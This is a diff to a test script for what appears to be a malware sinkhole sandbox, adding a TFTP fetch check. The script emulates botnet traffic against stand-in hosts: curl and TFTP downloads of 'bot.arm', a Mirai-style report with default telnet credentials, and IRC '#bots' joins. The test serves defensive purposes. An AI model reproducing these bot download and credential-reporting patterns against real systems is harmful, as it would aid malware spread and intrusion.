@@ -50,7 +50,7 @@ a = socket.gethostbyname("c2.example")
 must("a name", a.startswith("198.18.") or a.startswith("198.19."))
 must("the same name", socket.gethostbyname("c2.example") == a and socket.gethostbyname("other.example") != a)
 curl = lambda *how: subprocess.run(["curl", "-s", "-m", "5", *how], capture_output=True).stdout
-must("a captured download", curl("http://dl.example/bins/bot.arm") == b"captured by a decoy")
+must("a captured download", curl("http://dl.example/bins/bot.arm") == b"c" * 2000)
 must("another download", curl("http://dl.example/bins/bot.sh").startswith(b"#!/bin/sh"))
 must("TLS", b"It works" in curl("-k", "https://panel.example/gate.php"))
 must("no port of it is closed", tcp("203.0.113.77", 48101, (b"\0\xcb\x00\x71\x09\0\x17\4root\5admin", b"")) == b"")
@@ -65,6 +65,15 @@ u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 u.settimeout(3)
 u.sendto(b"anything", ("203.0.113.9", 4000))
 must("any UDP", u.recvfrom(100) == (b"anything", ("203.0.113.9", 4000)))
+u.sendto(b"\0\1bins/bot.arm\0octet\0", ("203.0.113.69", 69))
+fetched = b""
+while True:
+    said, who = u.recvfrom(2000)
+    fetched += said[4:]
+    u.sendto(b"\0\4" + said[2:4], who)
+    if len(said) < 516:
+        break
+must("TFTP", fetched == b"c" * 2000)
 for i in range(10000):
     u.sendto(b"x" * 512, ("203.0.113.50", 7777))
 for i in range(400):
@@ -85,8 +94,8 @@ except PermissionError:
     print("forged packets were refused by the box")
 print("done", flush=True)
 EOP
-printf 'captured by a decoy' >"$WORK/captured"
-timeout 60 "$STAND" box 40 "$WORK/sink.pcap" http://dl.example/bins/bot.arm "$WORK/captured" \
+head -c 2000 /dev/zero | tr '\0' c >"$WORK/captured"
+timeout 60 "$STAND" box 40 "$WORK/sink.pcap" /bins/bot.arm "$WORK/captured" \
 	/usr/bin/python3 -c "$(cat "$WORK/noise.py")" >"$WORK/found" 2>"$WORK/said"
 status=$?
 [ $status = 0 ] || { cat "$WORK/said"; fail "the sink ended with $status"; }
@@ -101,6 +110,7 @@ wants '^request mirai-report 203.0.113.77:48101 found 203.0.113.9:23 root:admin'
 wants '^request telnet 203.0.113.8:23 credential root:vizxv'
 wants '^request irc irc.example:6667 join #bots'
 wants '^request smtp 203.0.113.25:25 mail RCPT TO:<v@victim.example>'
+wants '^request tftp 203.0.113.69:69 url tftp://203.0.113.69/bins/bot.arm count 1 served'
 wants '^name A c2.example count'
 wants '^hello c2.example:23 mirai bytes 11 registers$'
 wants '^hello dl.example:80 http bytes [0-9]+$'
